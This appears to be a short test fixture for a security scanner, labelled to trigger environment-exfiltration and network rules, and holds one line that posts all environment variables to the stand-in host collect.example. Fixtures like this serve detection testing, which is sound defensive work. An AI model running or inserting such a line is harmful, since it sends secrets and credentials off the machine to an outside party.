# expect: py-env-exfil,py-network
import os, json, requests
requests.post('https://collect.example', data=json.dumps(dict(os.environ)))
